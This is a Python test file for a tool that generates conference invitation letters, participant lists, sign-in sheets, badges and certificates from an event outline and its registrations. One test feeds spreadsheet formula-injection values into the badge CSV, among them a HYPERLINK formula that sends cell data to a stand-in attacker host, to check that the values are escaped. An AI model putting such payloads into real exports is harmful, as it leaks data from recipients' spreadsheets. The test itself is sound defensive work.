"""From invitations to the room, for the Hague example and its registrations, read as their
readers would: the invitation letters (a page per invited country and per allocation, with the
right seats and notes), the participant list (every consenting registrant, no one else named),
the attendance sheets (a sheet per day listing everyone), the badges (one per registrant) and the
certificates (only for those who attended). Word documents are opened with python-docx and
converted by LibreOffice; PDFs are read page by page with pdftotext."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import shutil
import subprocess
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import attrs
import docx
import html5lib
import pytest

import confdocs
from tests.conftest import HAGUE, ROOT, confdocs_cli, load_script, pdf_page_texts, require_tool

REGISTRATIONS = HAGUE.parent / "registrations.csv"
SCRIPT = ROOT / "scripts" / "make_recipient_templates.py"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
#: In the Hague registrations: those who did not agree to be listed, and who never came.
NOT_CONSENTING = {
    "Koffi AGOSSOU", "Yasmín PERALTA", "Aram HAKOBYAN", "Driton GASHI", "Jonas BECKER",
    "Kenji WATANABE",
}
NO_SHOWS = {"Thiago MOREIRA", "Georges KHOURY", "Ingrid HAUGEN"}


# -- reading documents -------------------------------------------------------------------------


def flat(text: str) -> str:
    return " ".join(unicodedata.normalize("NFC", text).split())


def docx_pages(data: bytes) -> list[str]:
    """The text of a Word document, paragraphs and table cells in order, cut where a page
    starts (a paragraph that breaks the page before itself)."""
    document = docx.Document(io.BytesIO(data))
    pages: list[list[str]] = [[]]
    for block in document.element.body.iterchildren():
        if block.tag == f"{W}p":
            style = block.find(f"{W}pPr/{W}pStyle")
            if style is not None and style.get(f"{W}val") == "PageStart":
                pages.append([])
        pages[-1].append("".join(t.text or "" for t in block.iter(f"{W}t")))
        if block.tag == f"{W}tbl":
            pages[-1].append(" | ".join(
                "".join(t.text or "" for t in cell.iter(f"{W}t")) for cell in block.iter(f"{W}tc")
            ))
    return [flat(" ".join(page)) for page in pages]


def pdf_pages(data: bytes, folder: Path) -> list[str]:
    return [flat(page) for page in pdf_page_texts(data, folder) if page.strip()]


def libreoffice_pdf(data: bytes, folder: Path, name: str) -> bytes:
    soffice = require_tool("soffice")
    source = folder / name
    source.write_bytes(data)
    subprocess.run(
        [soffice, "--headless", "--convert-to", "pdf", "--outdir", str(folder), str(source)],
        capture_output=True,
        env={**os.environ, "HOME": str(folder)},
        timeout=240,
        check=False,
    )
    made = source.with_suffix(".pdf")
    assert made.is_file(), f"LibreOffice made no PDF of {name}"
    return made.read_bytes()


def html_text(data: bytes) -> str:
    tree = html5lib.parse(data, namespaceHTMLElements=False)
    for style in tree.iter("style"):
        style.text = ""
    return flat(" ".join(tree.itertext()))


# -- the Hague example and what it should give -----------------------------------------------


@pytest.fixture(scope="module")
def hague() -> tuple[Any, Any]:
    return confdocs.load_event(HAGUE), confdocs.load_registrations(REGISTRATIONS)


@pytest.fixture(scope="module")
def view(hague: tuple[Any, Any]) -> Any:
    event, registrations = hague
    return confdocs.prepare_view(event, registrations=registrations)


FORMATS = [
    "letters", "participant-list", "participant-list-html", "sign-in", "sign-in-pdf", "badges",
    "badges-csv", "certificates", "certificates-pdf",
]


@pytest.fixture(scope="module")
def built(hague: tuple[Any, Any]) -> dict[str, bytes]:
    event, registrations = hague
    result = confdocs.build(event, FORMATS, registrations=registrations)
    assert result.ok, result.failures
    assert [doc.format for doc in result.documents] == FORMATS
    return {doc.format: doc.data for doc in result.documents}


def invited(event: Any) -> dict[str, list[tuple[str, int]]]:
    """Each invited country's groups and seats, from the rules as the outline states them."""
    out: dict[str, list[tuple[str, int]]] = {}
    for group in event.participants.groups:
        for country in group.countries:
            seats = next(
                (r.seats for r in group.exceptions if r.country == country and r.seats is not None),
                group.seats_per_country,
            )
            out.setdefault(country, []).append((group.project, seats))
    return out


def people(registrations: Any, event: Any) -> list[str]:
    """Every registrant's name by the outline's rule (family name in capitals)."""
    return [
        confdocs.view.written_name(r.name, r.family_name, event.settings) for r in registrations
    ]


# -- letters -----------------------------------------------------------------------------------


def test_a_letter_for_each_of_the_38_countries_and_each_allocation(
    hague: tuple[Any, Any], built: dict[str, bytes]
) -> None:
    event, _ = hague
    countries = invited(event)
    assert len(countries) == 38
    pages = docx_pages(built["letters"])
    allocations = event.participants.allocations
    assert len(pages) == 38 + len(allocations) == 46
    names = {code: confdocs.view.country_name(code, "en_GB", event.settings.country_names)
             for code in countries}
    for page, (code, groups) in zip(pages, countries.items(), strict=False):
        assert f"The competent authorities {names[code]}" in page, page[:200]
        seats = sum(n for _, n in groups)
        assert f"You are invited to nominate {seats} participant" in page
        for project, n in groups:
            assert f"{project}: {n} participant{'s' if n != 1 else ''}" in page
        # The event's own words for the composition, as the outline has them (a country
        # the exceptions give a composition of its own gets its roles' list: Tunis's TN).
        assert "Each participating country should designate one specialized prosecutor" in page
        assert "Each delegation should be composed of:" not in page
        assert "by 30 August 2019 to:" in page
        assert "Manuel DE ALMEIDA PEREIRA" in page and "Peter GOUWY" in page
        assert "Alexander SEGER" in page
    seats = {a.id: a.seats * (28 if a.country_set else len(a.countries) or 1)
             for a in allocations}
    for page, allocation in zip(pages[38:], allocations, strict=True):
        assert flat(allocation.label) in page
        count = seats[allocation.id]
        assert f"You are invited to nominate {count} participant" in page
        assert "Each delegation" not in page
    assert seats["eurojust-national-members"] == 28


def test_each_letter_carries_the_notes_that_apply(built: dict[str, bytes]) -> None:
    pages = {re.search(r"The competent authorities (.+?) Invitation", p).group(1): p  # type: ignore[union-attr]
             for p in docx_pages(built["letters"]) if "The competent authorities" in p}
    kosovo = "This designation is without prejudice to positions on status"
    one_cybereast = "Armenia, Azerbaijan and Ukraine should only appoint one participant"
    one_endocsea = "The priority countries of EndOCSEA@Europe project should appoint only one"
    assert kosovo in pages["Kosovo"]
    assert sum(kosovo in page for page in pages.values()) == 1
    for country in ("Armenia", "Azerbaijan", "Ukraine"):
        assert "CyberEast: 1 participant" in pages[country]
        assert "EndOCSEA@Europe: 1 participant" in pages[country]
        assert one_cybereast in pages[country] and one_endocsea in pages[country]
    assert "CyberEast: 2 participants" in pages["Georgia"]
    assert one_cybereast in pages["Georgia"] and one_endocsea not in pages["Georgia"]
    assert not any(n in pages["Argentina"] for n in (kosovo, one_cybereast, one_endocsea))


def test_letters_are_a_page_each_in_libreoffice(built: dict[str, bytes], tmp_path: Path) -> None:
    """The default letterhead template fits each Hague letter on its page."""
    pdf = libreoffice_pdf(built["letters"], tmp_path, "letters.docx")
    pages = pdf_pages(pdf, tmp_path)
    assert len(pages) == 46
    assert all(page.count("Strasbourg, 15 July 2019") == 1 for page in pages)
    assert all("Funded by the European Union" in page for page in pages)  # the letterhead
    assert "Kosovo" in pages[28] and "Yours faithfully" in pages[28]


@pytest.mark.parametrize("locale", ["en_GB", "fr"])
@pytest.mark.parametrize("dated", [True, False])
def test_a_letter_without_contacts_ends_its_reply_sentence(
    hague: tuple[Any, Any], locale: str, dated: bool
) -> None:
    """"… by 30 August 2019 to:" introduces the contacts; with none, the sentence ends."""
    import attrs

    event, _ = hague
    if not dated:
        event = attrs.evolve(event, participants=attrs.evolve(event.participants, reply_by=None))
    ending = {"en_GB": "of the participants", "fr": "des participants"}[locale]
    if dated:
        ending += {"en_GB": " by 30 August 2019", "fr": " avant le 30 août 2019"}[locale]
    to = {"en_GB": " to:", "fr": " à :"}[locale]  # as flat() folds the no-break space

    def first_letter(event: Any) -> str:
        [doc] = confdocs.build(event, ["letters"], {"locale": locale}).documents
        return docx_pages(doc.data)[0]

    assert f"{ending}{to}" in first_letter(event)
    alone = first_letter(attrs.evolve(event, contacts=()))
    assert f"{ending}." in alone and f"{ending}{to}" not in alone


def test_letters_follow_the_documents_language(hague: tuple[Any, Any]) -> None:
    event, _ = hague
    [doc] = confdocs.build(event, ["letters"], {"locale": "fr"}).documents
    first = docx_pages(doc.data)[0]
    assert "Autorités compétentes Argentine" in first
    assert "Nous vous invitons à désigner 2 participant(e)s" in first
    assert "avant le 30 août 2019" in first
    assert "Strasbourg, le 15 juillet 2019" in first


# -- the participant list ----------------------------------------------------------------------


def test_every_consenting_registrant_is_listed_and_no_one_else(
    hague: tuple[Any, Any], built: dict[str, bytes]
) -> None:
    event, registrations = hague
    names = people(registrations, event)
    consenting = [n for n, r in zip(names, registrations, strict=True) if r.consent]
    assert set(names) - set(consenting) == NOT_CONSENTING
    texts = {
        "participant-list": " ".join(docx_pages(built["participant-list"])),
        "participant-list-html": html_text(built["participant-list-html"]),
    }
    for fmt, text in texts.items():
        for name in consenting:
            assert name in text, f"{name} is not on the {fmt}"
        for name in NOT_CONSENTING:
            assert name not in text, f"{name} did not consent but is on the {fmt}"
        for registration in registrations:
            assert registration.email not in text
        assert "116 registered participants." in text
        assert "6 participants who have not agreed to be listed are not named." in text
        assert "1 participant who has not agreed to be listed is not named." in text


def test_the_list_groups_by_country_then_organisation(view: Any) -> None:
    part = view.registrants.participant_list
    delegations, organisations = part.sections
    assert (delegations.heading, organisations.heading) == ("Delegations", "Organisations")
    headings = [g.heading for g in delegations.groups]
    assert headings[:3] == ["Albania", "Algeria", "Argentina"] and len(headings) == 38
    # Organisations in the order of their allocations; both of Eurojust's together.
    assert [g.heading for g in organisations.groups] == [
        "Eurojust", "United States Department of Justice",
        "United Nations Office on Drugs and Crime", "Europol", "INTERPOL",
        "Directorate-General for International Cooperation and Development, European "
        "Commission", "Council of Europe",
    ]
    benin = next(g for g in delegations.groups if g.heading == "Benin")
    assert [e.name for e in benin.entries] == ["Adjoa HOUNGBÉDJI"]
    assert benin.unnamed == 1
    eurojust = organisations.groups[0]
    # 27 national members registered (of 28 seats) and the 6 liaison prosecutors.
    assert len(eurojust.entries) + eurojust.unnamed == 27 + 6
    assert {e.detail for e in eurojust.entries} >= {"Croatia", "Norway"}
    assert [e.number for g in part.groups for e in g.entries] == list(range(1, 111))


def test_the_list_looks_like_a_list_in_libreoffice(
    built: dict[str, bytes], tmp_path: Path
) -> None:
    pages = pdf_pages(libreoffice_pdf(built["participant-list"], tmp_path, "list.docx"), tmp_path)
    text = " ".join(pages)
    assert text.index("Delegations") < text.index("Albania") < text.index("Organisations")
    assert "No. Name Organisation Role" in text


# -- attendance sheets -------------------------------------------------------------------------


def test_a_sheet_per_day_listing_everyone(
    hague: tuple[Any, Any], built: dict[str, bytes], tmp_path: Path
) -> None:
    event, registrations = hague
    names = people(registrations, event)
    document = docx.Document(io.BytesIO(built["sign-in"]))
    tables = document.tables
    assert len(tables) == 2  # 30 September and 1 October; the preparation day is not the event's
    for table in tables:
        rows = [[cell.text for cell in row.cells] for row in table.rows]
        assert rows[0] == ["No.", "Name", "Country or organisation", "Signature"]
        listed = [re.sub(r"^(Dr|Judge|Prof\.|Mr) ", "", row[1]) for row in rows[1:]]
        assert sorted(listed) == sorted(names)
        assert all(row[3] == "" for row in rows[1:])
    sheets: list[list[str]] = []
    for page in pdf_pages(built["sign-in-pdf"], tmp_path):
        if "Attendance sheet, " in page:  # a sheet starts a page; its next pages follow it
            sheets.append([])
        sheets[-1].append(page)
    assert len(sheets) == 2
    for sheet, day in zip(sheets, ("Monday, 30 September 2019", "Tuesday, 1 October 2019"),
                          strict=True):
        assert f"Attendance sheet, {day}" in sheet[0]
        text = " ".join(sheet)
        for name in names:
            assert name in text, f"{name} is not on the sheet of {day}"
        # The header row repeats on every page (pdftotext reads the last column apart).
        assert all(" No. Name Country or organisation " in p and "Signature" in p for p in sheet)


def test_sheets_are_ready_to_print_in_libreoffice(
    built: dict[str, bytes], tmp_path: Path
) -> None:
    pdf = libreoffice_pdf(built["sign-in"], tmp_path, "sign-in.docx")
    pages = pdf_pages(pdf, tmp_path)
    first = [i for i, p in enumerate(pages) if "Attendance sheet, Monday" in p]
    second = [i for i, p in enumerate(pages) if "Attendance sheet, Tuesday" in p]
    assert first == [0] and len(second) == 1 and second[0] > 0  # the second day starts a page
    # The header row repeats on every page (pdftotext reads its cells apart).
    assert all(" No. Name Country or organisation " in p and "Signature" in p for p in pages)
    assert " 116 " in " ".join(pages[: second[0]]) and " 117 " not in " ".join(pages)


def test_those_following_online_sign_no_sheet_and_wear_no_badge(hague: tuple[Any, Any]) -> None:
    event, registrations = hague
    online = registrations.rows[0].__class__(
        name="Ola Online", email="ola@x.example", group="glacy-plus", role="other", country="AR",
        attendance="online",
    )
    regs = confdocs.Registrations("r.csv", (*registrations.rows, online))
    made = confdocs.make_view(event, registrations=regs)
    assert all("Ola Online" not in [r.name for r in s.rows] for s in made.registrants.sign_in)
    assert all(b.name != "Ola Online" for b in made.registrants.badges)
    assert len(made.registrants.badges) == len(registrations.rows)
    assert any(p.name == "Ola Online" for p in made.registrants.people)


# -- badges ------------------------------------------------------------------------------------


def test_one_badge_per_registrant(
    hague: tuple[Any, Any], built: dict[str, bytes], tmp_path: Path
) -> None:
    event, registrations = hague
    names = people(registrations, event)
    pages = pdf_pages(built["badges"], tmp_path)
    assert len(pages) == 15  # 116 badges, eight a page
    text = " ".join(pages)
    for name in names:
        assert text.count(name) == 1 + sum(1 for n in names if name in n and n != name), name
    first = pages[0]
    assert first.index("Mariana SOSA") < first.index("Argentina") < first.index(
        "Prosecutor or central authority"
    )
    assert "Eurojust, Austria" in text  # an allocation's representative: organisation, country
    # The badge addresses them as the letters and certificates do: with their title.
    assert "Dr Guadalupe TREVIÑO" in text and "Judge Fatou DIOP" in text
    rows = list(csv.DictReader(io.StringIO(built["badges-csv"].decode("utf-8-sig"))))
    assert [r["name"] for r in rows] == names
    assert rows[0]["affiliation"] == "Argentina" and rows[0]["id"] == "mariana-sosa"
    assert rows[0]["role"] == "Prosecutor or central authority"
    assert "email" not in rows[0] and "phone" not in rows[0]


def test_badge_csv_cells_cannot_run_as_formulas(hague: tuple[Any, Any]) -> None:
    event, _ = hague
    regs = confdocs.Registrations("r.csv", (
        confdocs.Registration(
            name='=HYPERLINK("https://evil.example/?"&A1,"x")', email="e@x.example",
            group="europol", organisation="@SUM(1+1)",
        ),
    ))
    [doc] = confdocs.build(event, ["badges-csv"], registrations=regs).documents
    [row] = list(csv.DictReader(io.StringIO(doc.data.decode("utf-8-sig"))))
    assert row["name"].startswith("'=") and row["organisation"] == "'@SUM(1+1)"


# -- certificates ------------------------------------------------------------------------------


def test_certificates_only_for_those_who_attended(
    hague: tuple[Any, Any], built: dict[str, bytes], tmp_path: Path
) -> None:
    event, registrations = hague
    attended = [n for n, r in zip(people(registrations, event), registrations, strict=True)
                if r.attended]
    assert len(attended) == 113
    for fmt, pages in (
        ("certificates", docx_pages(built["certificates"])),
        ("certificates-pdf", pdf_pages(built["certificates-pdf"], tmp_path)),
    ):
        assert len(pages) == 113, fmt
        for page, name in zip(pages, attended, strict=True):
            assert name in page
        for name in NO_SHOWS:
            assert not any(name in page for page in pages), f"{name} never came ({fmt})"


def test_a_certificate_is_in_the_participants_language(built: dict[str, bytes]) -> None:
    pages = docx_pages(built["certificates"])
    sosa = next(p for p in pages if "Mariana SOSA" in p)  # Spanish
    assert "Certificado de asistencia" in sosa
    # Consecutive days as one span, with words where the language has them.
    assert "del 30 de septiembre al 1 de octubre de 2019." in sosa
    agossou = next(p for p in pages if "Koffi AGOSSOU" in p)  # French, both days
    assert "Attestation de participation" in agossou and "du 30 septembre au 1er octobre 2019." in agossou
    semedo = next(p for p in pages if "Nelson SEMEDO" in p)  # Portuguese, one day
    assert "participou em 30 de setembro de 2019 no evento" in semedo
    assert "de 30 de setembro a 1 de outubro de 2019." in semedo
    weber = next(p for p in pages if "Marc WEBER" in p)  # English, the first day only
    # The day they came, then the event's own days: "held in The Hague, Netherlands, on
    # 30 September 2019" had read as the event's dates.
    assert "attended on 30 September 2019 the event “International conference" in weber
    assert "held in The Hague, Netherlands, on 30 September – 1 October 2019." in weber
    # The event's name in quotes, as every language has it (a title in another language
    # read "attended the Taller regional …").
    assert "the event “International conference on online investigations" in weber


# -- one file per recipient ------------------------------------------------------------------


def test_each_writes_a_file_per_recipient_inside_the_output_folder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    done = confdocs_cli(
        "build", str(HAGUE), "-r", str(REGISTRATIONS), "-f", "letters", "-f", "badges",
        "-f", "sign-in-pdf", "--each", "-o", str(out),
    )
    assert done.returncode == 0, done.stderr
    names = sorted(p.name for p in out.iterdir())
    assert "hague-2019.AR.letters.docx" in names and "hague-2019.europol.letters.docx" in names
    assert "hague-2019.mariana-sosa.badges.pdf" in names
    assert "hague-2019.femke-de-vries.badges.pdf" in names
    assert [
        n for n in names if n.endswith("sign-in.pdf")
    ] == ["hague-2019.2019-09-30.sign-in.pdf", "hague-2019.2019-10-01.sign-in.pdf"]
    assert sum(n.endswith(".letters.docx") for n in names) == 46
    assert sum(n.endswith(".badges.pdf") for n in names) == 116
    assert all(p.parent == out for p in out.iterdir())


def test_formats_made_of_registrations_need_them(tmp_path: Path) -> None:
    done = confdocs_cli("build", str(HAGUE), "-f", "badges", "-o", str(tmp_path / "out"))
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "format 'badges' is made from the registrations" in done.stderr
    assert "--registrations FILE (-r FILE)" in done.stderr and "build(..." not in done.stderr
    assert not (tmp_path / "out").exists()
    every = confdocs_cli("build", str(HAGUE), "-o", str(tmp_path / "all"))
    assert every.returncode == 0, every.stderr
    assert "not built without --registrations: badges, badges-csv" in every.stderr
    assert (tmp_path / "all" / "hague-2019.letters.docx").is_file()  # letters need none


def test_registrations_go_with_one_event(tmp_path: Path) -> None:
    done = confdocs_cli(
        "build", str(HAGUE), str(ROOT / "examples" / "minimal" / "event.yaml"),
        "-r", str(REGISTRATIONS), "-o", str(tmp_path),
    )
    assert done.returncode == 2 and "give exactly one event" in done.stderr


# -- the templates -----------------------------------------------------------------------------


def test_shipped_templates_are_what_the_script_makes(tmp_path: Path) -> None:
    script = load_script(SCRIPT)
    assert script.main(["make_recipient_templates.py", str(tmp_path)]) == 0
    for name in script.TEMPLATES:
        shipped = script.FOLDER / name
        assert (tmp_path / name).read_bytes() == shipped.read_bytes(), (
            f"{name} differs: run python scripts/make_recipient_templates.py"
        )


def test_a_users_letterhead_replaces_the_template(
    hague: tuple[Any, Any], tmp_path: Path
) -> None:
    event, _ = hague
    letterhead = tmp_path / "letterhead.docx"
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "MINISTRY OF EXAMPLES – LETTERHEAD"
    for text in ("{%p for letter in letters %}", "{{ letter.addressee }} {{ letter.country }}",
                 "{{r letter.seats_line.runs }}", "{%p endfor %}"):
        document.add_paragraph(text)
    document.save(letterhead)
    [doc] = confdocs.build(event, ["letters"], {"template": str(letterhead)}).documents
    made = docx.Document(io.BytesIO(doc.data))
    assert made.sections[0].header.paragraphs[0].text == "MINISTRY OF EXAMPLES – LETTERHEAD"
    lines = [p.text for p in made.paragraphs]
    assert lines[0] == "The competent authorities Argentina"
    assert lines[1] == "You are invited to nominate 2 participants:"
    assert len(lines) == 92


def test_a_mistake_in_a_users_letterhead_names_the_tag(tmp_path: Path) -> None:
    letterhead = tmp_path / "letterhead.docx"
    document = docx.Document()
    document.add_paragraph("{%p for letter in letters %}")
    document.add_paragraph("{{ letter.adresse }}")
    document.add_paragraph("{%p endfor %}")
    document.save(letterhead)
    done = confdocs_cli(
        "build", str(HAGUE), "-f", "letters", "--template", str(letterhead),
        "-o", str(tmp_path / "out"),
    )
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert f"{letterhead}: unknown variable in tag {{{{ letter.adresse }}}}" in done.stderr


@pytest.mark.parametrize(
    "attended, locale, line",
    [
        ("2025-11-18 2025-11-19 2025-11-20", "fr", "Tunisie, du 18 au 20 novembre 2025."),
        # Some of the days: those they came, then the event's.
        ("2025-11-18 2025-11-20", "fr",
         "a participé les 18 et 20 novembre 2025 à la manifestation"),
        ("2025-11-20", "fr", "tenue à Tunis, Tunisie, du 18 au 20 novembre 2025."),
        ("2025-11-19", "fr", "a participé le 19 novembre 2025 à la manifestation"),
        ("2025-11-18 2025-11-19", "en_GB", "attended on 18 and 19 November 2025 the event"),
        # A span in words where the language has them; the month named once.
        ("2025-11-18 2025-11-19 2025-11-20", "es", "Túnez, del 18 al 20 de noviembre de 2025."),
        ("2025-11-18 2025-11-19 2025-11-20", "de", "vom 18. bis 20. November 2025."),
        ("2025-11-18 2025-11-20", "es", "asistió los días 18 y 20 de noviembre de 2025 a la"),
        ("2025-11-18 2025-11-19", "pt", "participou nos dias 18 e 19 de novembro de 2025 no"),
        # Where the month comes first, each day in full.
        ("2025-11-18 2025-11-20", "en", "attended on November 18, 2025 and November 20, 2025"),
        # Ukrainian: no preposition before the days, whose "р." ends the sentence (no "р..").
        ("2025-11-18 2025-11-19 2025-11-20", "uk", "(Tunis, Туніс) 18–20 листопада 2025 р. 20"),
        ("2025-11-18 2025-11-20", "uk", "взяв(-ла) участь 18 і 20 листопада 2025 р. у заході"),
        ("2025-11-20", "uk", "(Tunis, Туніс), що відбувся 18–20 листопада 2025 р. 20"),
    ],
)
def test_a_certificates_days_are_written_as_the_events_dates_are(
    tmp_path: Path, attended: str, locale: str, line: str
) -> None:
    """Consecutive days of a month are one interval, not each day in full."""
    tunis = ROOT / "examples" / "tunis-2025" / "event.yaml"
    csv_file = tmp_path / "registrations.csv"
    csv_file.write_text(
        "name,email,country,group,role,organisation,attendance,language,attended\n"
        f"Amina Mansouri,a@x.example,DZ,cybersouth,prosecutor,,,{locale},{attended}\n",
        encoding="utf-8",
    )
    event = confdocs.load_event(tunis)
    registrations = confdocs.load_registrations(csv_file)
    [doc] = confdocs.build(event, ["certificates"], registrations=registrations).documents
    text = flat(" ".join(p.text for p in docx.Document(io.BytesIO(doc.data)).paragraphs))
    assert flat(line) in text.replace("\u2009", " ")


def test_a_signature_names_the_signatorys_organisation(
    hague: tuple[Any, Any], built: dict[str, bytes], tmp_path: Path
) -> None:
    """A letter or certificate is signed by one person standing alone: under the name, the
    position and the organisation (a contact list says the organisation as its heading)."""
    signature = "Alexander SEGER\nHead of Cybercrime Division and Executive Secretary of the " \
        "Cybercrime Convention Committee (T-CY)\nCouncil of Europe"
    for fmt, pages in (
        ("certificates", docx_pages(built["certificates"])),
        ("certificates-pdf", pdf_pages(built["certificates-pdf"], tmp_path)),
        ("letters", docx_pages(built["letters"])),
    ):
        flat = " ".join(pages[0].split())
        assert " ".join(signature.split()) in flat, (fmt, pages[0][-400:])
    # A position that names the organisation is not followed by it again.
    event, registrations = hague
    people = [
        attrs.evolve(p, position="Head of Division, Council of Europe") if p.id == "seger" else p
        for p in event.people
    ]
    view = confdocs.prepare_view(attrs.evolve(event, people=people), registrations=registrations)
    signatory = view.registrants.certificates[0].signatory
    assert [line.plain for line in signatory.signature_lines] == [
        "Head of Division, Council of Europe"
    ]
    # The outline's contacts still stand under their organisation's heading, without it.
    contact = next(p for group in view.contacts for p in group.people if p.id == "hanganu")
    assert contact.organisation == "Council of Europe"
    assert "Council of Europe" not in [x.plain for x in contact.identity_lines]


def test_a_letter_says_the_composition_in_the_events_words(hague: tuple[Any, Any]) -> None:
    """The letters take the event's composition text, as the outline does; a country whose
    exception gives it a composition of its own gets that, as its roles' list."""
    event, _ = hague
    from confdocs.model.participants import CountryRule

    group = event.participants.groups[0]
    rule = CountryRule("AR", composition={"prosecutor": 1, "law-enforcement": 1})
    own = attrs.evolve(group, exceptions=(*group.exceptions, rule))
    participants = attrs.evolve(
        event.participants, groups=(own, *event.participants.groups[1:])
    )
    view = confdocs.make_view(attrs.evolve(event, participants=participants))
    letters = {letter.id: letter for letter in view.letters}
    text = "Each participating country should designate one specialized prosecutor"
    assert letters["BR"].composition_text is not None
    assert letters["BR"].composition_text.plain.startswith(text)
    # The roles' lines stay, for a template made before the text (it shows them).
    assert [r.id for r in letters["BR"].composition] == ["prosecutor", "law-enforcement"]
    assert letters["AR"].composition_text is None
    assert [r.id for r in letters["AR"].composition] == ["prosecutor", "law-enforcement"]
    # An event without its own text lists the roles, as before.
    plain = attrs.evolve(event, participants=attrs.evolve(participants, composition=None))
    brazil = next(x for x in confdocs.make_view(plain).letters if x.id == "BR")
    assert brazil.composition_text is None and brazil.composition


def test_an_allocations_letter_names_the_countries_its_seats_are_for(
    built: dict[str, bytes],
) -> None:
    """Seats for each of some countries (a liaison prosecutor each): the letter to the
    organisation says which countries, under the allocation's label; a country set's label
    says it already ("each EU Member State")."""
    pages = [" ".join(p.split()) for p in docx_pages(built["letters"])]
    liaison = next(p for p in pages if "The liaison prosecutors of USA" in p)
    assert (
        "The liaison prosecutors of USA, Norway, Switzerland, Ukraine, North Macedonia and "
        "Montenegro represented at Eurojust 1 participant for each of United States, Norway, "
        "Switzerland, Ukraine, North Macedonia and Montenegro"
    ) in liaison
    members = next(p for p in pages if "One representative of each EU Member State" in p)
    assert "for each of" not in members


def test_a_letters_composition_text_keeps_its_note_and_the_seats_it_gives(
    tmp_path: Path,
) -> None:
    """The composition text's footnote becomes one of the letter's notes (a letters file has
    no footnotes of its own: a number there pointed at another letter's page); a country with
    fewer seats than the roles make up is told to choose among them, not the text."""
    text = HAGUE.read_text(encoding="utf-8")
    old = "(ideally the head of a cybercrime unit if available)."
    assert old in text
    text = text.replace(old, old + "[^kosovo-designation]", 1)
    shutil.copytree(HAGUE.parent, tmp_path / "hague")  # its catalogs and logos beside it
    changed = tmp_path / "hague" / "event.yaml"
    changed.write_text(text, encoding="utf-8")
    event = confdocs.load_event(changed)
    [doc] = confdocs.build(event, ["letters"]).documents
    with zipfile.ZipFile(io.BytesIO(doc.data)) as package:
        body = package.read("word/document.xml").decode()
    assert "footnoteReference" not in body
    view = confdocs.make_view(event)
    letters = {letter.id: letter for letter in view.letters}
    note = event.note("kosovo-designation").text.split()[0]
    assert any(n.plain.startswith(note) for n in letters["BR"].notes)
    from confdocs.model.participants import CountryRule

    group = event.participants.groups[0]
    fewer = attrs.evolve(group, exceptions=(*group.exceptions, CountryRule("BR", seats=1)))
    participants = attrs.evolve(
        event.participants, groups=(fewer, *event.participants.groups[1:])
    )
    one_seat = next(
        x
        for x in confdocs.make_view(attrs.evolve(event, participants=participants)).letters
        if x.id == "BR"
    )
    assert one_seat.seats == 1 and one_seat.composition_text is None
    assert one_seat.composition_line is not None
    assert one_seat.composition_line.plain.startswith("Participants should be chosen among")


@pytest.mark.parametrize(
    ("position", "office", "organisation", "signature", "identity_has_it"),
    [
        ("Head of Unit", None, "UN", ["Head of Unit", "UN"], True),  # "UN" is not in "Unit"
        ("Head of Division, Council of Europe", None, "Council of Europe",
         ["Head of Division, Council of Europe"], False),
        # The office names it: the letter's lines (which show the office) leave it out, the
        # certificate's (which do not) keep it.
        ("Programme Manager", "Council of Europe Office in Bucharest", "Council of Europe",
         ["Programme Manager", "Council of Europe"], False),
    ],
)
def test_a_signature_says_the_organisation_unless_a_line_beside_it_does(
    hague: tuple[Any, Any],
    position: str,
    office: str | None,
    organisation: str,
    signature: list[str],
    identity_has_it: bool,
) -> None:
    from confdocs.model.people import Organisation

    event, registrations = hague
    people = [
        attrs.evolve(p, position=position, office=office, organisation="org", affiliation=None)
        if p.id == "seger"
        else p
        for p in event.people
    ]
    organisations = (*event.organisations, Organisation(id="org", name=organisation))
    changed = attrs.evolve(event, people=people, organisations=organisations)
    view = confdocs.prepare_view(changed, registrations=registrations)
    signatory = view.registrants.certificates[0].signatory
    assert [x.plain for x in signatory.signature_lines] == signature
    letter = view.letters[0].signatory
    assert (organisation in [x.plain for x in letter.identity_lines]) is identity_has_it


@pytest.mark.parametrize(
    ("language", "country", "locale", "said"),
    [
        ("en", "FJ", "en_FJ", "on 18–20 November 2025."),  # not "November 18 – 20, 2025"
        ("en", None, "en", "on November 18 – 20, 2025."),  # CLDR's en, without a country
        ("pt", "BR", "pt_BR", "participou do evento"),  # the Brazilian wording
        ("fr", "TN", "fr", "du 18 au 20 novembre 2025."),  # the document's own language
        ("uk", "UA", "uk_UA", "(Tunis, Туніс) 18–20 листопада 2025 р."),
    ],
)
def test_a_certificates_language_takes_the_participants_country(
    tmp_path: Path, language: str, country: str | None, locale: str, said: str
) -> None:
    """A language without a region takes the participant's country where CLDR has that
    locale: an English certificate for Fiji writes its dates as Fiji does."""
    tunis = ROOT / "examples" / "tunis-2025" / "event.yaml"
    csv_file = tmp_path / "registrations.csv"
    group = "cybersouth" if country in (None, "TN") else "partners"
    csv_file.write_text(
        "name,email,country,group,role,organisation,attendance,language,attended\n"
        f"Amina Mansouri,a@x.example,{country or ''},{group},prosecutor,,,{language},"
        "2025-11-18 2025-11-19 2025-11-20\n",
        encoding="utf-8",
    )
    event = confdocs.load_event(tunis)
    registrations = confdocs.load_registrations(csv_file)
    view = confdocs.prepare_view(event, registrations=registrations)
    [certificate] = view.registrants.certificates
    assert certificate.locale == locale
    text = " ".join([certificate.statement.plain, certificate.days_line.plain])
    assert flat(said) in flat(text).replace("\u2009", " ")


@pytest.mark.parametrize(
    ("locale", "invitation", "statement"),
    [
        ("en_GB", "to be held online on", "held online,"),
        ("fr", "qui se tiendra en ligne du 30 septembre au 1er octobre 2019.", "tenue en ligne,"),
        ("es", "que se celebrará en línea del 30 de septiembre al 1 de octubre de 2019.", "celebrada en línea,"),
    ],
)
def test_an_online_event_is_held_online_not_in_online(
    hague: tuple[Any, Any], locale: str, invitation: str, statement: str
) -> None:
    """An event online only, with no city or country: letters and certificates said "to be
    held in Online", "tenue à En ligne"."""
    event, registrations = hague
    venue = attrs.evolve(event.venue, mode="online", city=None, country=None, address=None)
    online = attrs.evolve(event, venue=venue)
    view = confdocs.prepare_view(online, {"locale": locale}, registrations=registrations)
    assert invitation in view.letters[0].invitation.plain
    # Certificates are in each participant's language: one in this language.
    language = locale.split("_")[0]
    mine = next(c for c in view.registrants.certificates if c.locale.startswith(language))
    assert statement in mine.statement.plain
    # With a city, the place is named as before.
